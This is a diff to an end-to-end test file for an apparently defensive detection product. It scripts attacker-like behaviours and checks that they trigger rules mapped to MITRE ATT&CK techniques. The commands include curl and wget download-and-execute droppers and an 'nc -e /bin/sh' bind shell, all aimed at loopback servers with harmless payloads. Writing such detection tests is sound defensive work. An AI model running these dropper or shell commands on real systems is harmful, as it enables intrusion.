@@ -47,7 +47,7 @@ func init() {
 			name: "download from the loopback web server into /tmp and run it",
 			perform: func(t *testing.T, a *arena) string {
 				file := filepath.Join(tmpDir(t), "dropped-payload")
-				a.shell(t, fmt.Sprintf("curl -sf -o %s http://%s/payload && chmod +x %s && %s", file, a.web, file, file))
+				a.shell(t, fmt.Sprintf("curl -sf -o %s http://%s/payload && chmod +x %s && %s; true", file, a.web, file, file))
 				return fmt.Sprintf(`process.command_line:~%q`, file)
 			},
 			expect: []expected{{"VGL-EXEC-008", "T1105"}, {"VGL-EXEC-004", "T1105"}},
@@ -65,7 +65,7 @@ func init() {
 			perform: func(t *testing.T, a *arena) string {
 				file := fmt.Sprintf("/dev/shm/vigil-e2e-%d", os.Getpid())
 				t.Cleanup(func() { _ = os.Remove(file) })
-				a.shell(t, fmt.Sprintf("cp /usr/bin/true %s && %s", file, file))
+				a.shell(t, fmt.Sprintf("cp /usr/bin/true %s && %s; true", file, file))
 				return fmt.Sprintf(`process.executable.path:=%q`, file)
 			},
 			expect: []expected{{"VGL-EXEC-004", "T1105"}},
@@ -79,8 +79,7 @@ func init() {
 				for _, file := range []string{shm, tmp} {
 					require.NoError(t, os.WriteFile(file, []byte("#!/bin/sh\ntrue\n"), 0o755))
 				}
-				a.host(t, shm)
-				a.host(t, "sh", tmp)
+				a.shell(t, fmt.Sprintf("%s; sh %s; true", shm, tmp))
 				return `vigil.process.script.path:~"vigil-e2e-script"`
 			},
 			expect: []expected{{"VGL-EXEC-017", "T1059.004"}},
@@ -90,7 +89,7 @@ func init() {
 			perform: func(t *testing.T, a *arena) string {
 				file := filepath.Join(tmpDir(t), "vigil-e2e-stage.py")
 				require.NoError(t, os.WriteFile(file, []byte("print('staged')\n"), 0o644))
-				a.host(t, "/usr/bin/python3", file)
+				a.shell(t, fmt.Sprintf("/usr/bin/python3 %s; true", file))
 				return fmt.Sprintf(`vigil.process.script.path:=%q`, file)
 			},
 			expect: []expected{{"VGL-EXEC-018", "T1059"}},
@@ -128,7 +127,7 @@ func init() {
 		behaviour{
 			name: "nc -e bind shell and its client in a pod",
 			perform: func(t *testing.T, a *arena) string {
-				where := a.inPod(t, "ip link set lo up && (nc -l -p 4471 -e /bin/sh & sleep 1; echo exit | nc -w 2 127.0.0.1 4471; wait)")
+				where := a.inPod(t, "ip link set lo up && (timeout 10 nc -l -p 4471 -e /bin/sh & sleep 1; echo exit | nc -w 2 127.0.0.1 4471; wait)")
 				return where + ` process.command_line:~"-p 4471 -e"`
 			},
 			expect: []expected{{"VGL-EXEC-010", "T1059.004"}, {"VGL-NET-003", "T1095"}, {"VGL-NET-011", "T1095"}},
@@ -137,8 +136,8 @@ func init() {
 			name: "download from a loopback web server and run it in a pod",
 			perform: func(t *testing.T, a *arena) string {
 				return a.inPod(t, "ip link set lo up && mkdir -p /www && cp /bin/busybox /www/stage && "+
-					"(httpd -f -p 127.0.0.1:4472 -h /www & sleep 1; wget -q -O /tmp/stage http://127.0.0.1:4472/stage; "+
-					"chmod +x /tmp/stage; /tmp/stage true; kill %1; wait; true)")
+					"(timeout 15 httpd -f -p 127.0.0.1:4472 -h /www & sleep 1; wget -q -T 5 -O /tmp/stage http://127.0.0.1:4472/stage; "+
+					"chmod +x /tmp/stage; /tmp/stage true; kill $!; wait; true)")
 			},
 			expect: []expected{{"VGL-EXEC-007", "T1105"}},
 		},
@@ -166,6 +165,10 @@ func init() {
 		},
 	)
 }
+
+// Commands run through a.shell end with "; true" so that the shell forks
+// them: the test binary runs from Go's go-build directory, and what it
+// starts directly is excepted as Go tooling by the pack.
 
 // tmpDir is a new directory directly under /tmp (whatever TMPDIR says),
 // removed at the end: droppers use /tmp itself.
